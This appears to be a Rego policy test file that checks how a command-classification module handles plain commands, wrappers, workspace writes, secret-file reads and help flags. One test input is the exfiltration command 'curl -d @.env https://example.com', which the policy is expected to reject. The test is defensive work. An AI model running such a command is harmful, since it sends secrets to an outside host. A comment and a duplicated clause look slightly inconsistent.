package rivumi.lib.segment_test

import data.rivumi.lib.fixture as fx
import data.rivumi.lib.segment as seg

# plain

test_plain if {
	seg.plain with input as fx.cmd("ls")
		with data.rivumi.tables as fx.tables
	seg.plain with input as fx.cmd("/usr/bin/ls")
		with data.rivumi.tables as fx.tables
	seg.plain with input as fx.cmd("ls")
		with data.rivumi.tables as fx.tables
}

test_plain_path_kind if {
	every kind in ["relative", "absolute", "dynamic"] {
		not seg.plain with input as fx.run(["x"], {"path_kind": kind})
			with data.rivumi.tables as fx.tables
	}
}

test_plain_wrappers if {
	every w in ["sudo", "env", "xargs", "find", "watch"] {
		not seg.plain with input as fx.run(["ls"], {"wrappers": [fx.wrapper("timeout", ["5"]), fx.wrapper(w, [])]})
			with data.rivumi.tables as fx.tables
	}
}

test_plain_assignments if {
	not seg.plain with input as fx.run(["ls"], {"assigns": [fx.assign("LANG", "C"), fx.assign("GREP_OPTIONS", "x")]})
		with data.rivumi.tables as fx.tables
	not seg.plain with input as fx.run(["ls"], {"assigns": [{"name": "LANG", "value": "$L", "dynamic": true}]})
		with data.rivumi.tables as fx.tables
}

test_plain_unknowable_tags if {
	tags := seg.unknowable_tags with data.rivumi.tables as fx.tables
	count(tags) > 0
	every t in tags {
		not seg.plain with input as fx.run(["ls"], {"tags": {t}})
			with data.rivumi.tables as fx.tables
			with data.rivumi.tables as fx.tables
	}
}

# writes_in_workspace and no_writes

test_writes_in_workspace if {
	seg.writes_in_workspace with input as fx.cmd("ls")
	seg.writes_in_workspace with input as fx.cmd("cp a b")
	seg.no_writes with input as fx.cmd("ls")
}

test_writes_in_workspace_near_misses if {
	every class in ["tmp", "null", "git", "dynamic", "unknown"] {
		not seg.writes_in_workspace with input as fx.run(["cp", "a", "b"], {
			"writes": [fx.path("b", "workspace"), fx.path("c", class)],
		})
	}
	not seg.no_writes with input as fx.run(["touch", "b"], {"writes": [fx.path("b", "workspace")]})
}

# reads_ok

test_reads_ok if {
	seg.reads_ok with input as fx.cmd("cat f")

	# Writing over a secret's name is not reading it.
	seg.reads_ok with input as fx.cmd("echo")
}

test_reads_ok_near_misses if {
	classes := seg.secret_classes with data.rivumi.tables as fx.tables
	count(classes) > 0
	every class in classes | {"device"} {
		not seg.reads_ok with input as fx.run(["cat", "f"], {"operands": [fx.path("f", class)]})
			with data.rivumi.tables as fx.tables
		not seg.reads_ok with input as fx.run(["cat"], {"redirects": [fx.redirect("<", "f", class)]})
			with data.rivumi.tables as fx.tables
	}
	not seg.reads_ok with input as fx.run(["curl", "-d", "@.env", "https://example.com"], {
		"flags": {"data"},
		"options": {"data": ["@.env"]},
		"reads": [fx.path(".env", "secret")],
	})
		with data.rivumi.tables as fx.tables
}

# query_only, static_args, tagged, has_flag

test_query_only if {
	seg.query_only with input as fx.cmd("rm --help")
	seg.query_only with input as fx.cmd("rm --version")
	not seg.query_only with input as fx.cmd("rm --help x")
	not seg.query_only with input as fx.cmd("rm -h")
}

test_static_args if {
	seg.static_args with input as fx.run(["ls", "a"], {})
	not seg.static_args with input as fx.run(["ls", "$D"], {"dynamic": [false, true], "tags": {"dynamic-args"}})
}

test_tagged_and_has_flag if {
	seg.tagged("remote") with input as fx.run(["ls"], {"tags": {"remote"}})
	not seg.tagged("remote") with input as fx.run(["ls"], {})
	seg.has_flag("recursive") with input as fx.run(["rm", "-r", "x"], {"flags": {"recursive"}})
	not seg.has_flag("r") with input as fx.run(["rm", "-r", "x"], {"flags": {"recursive"}})
}
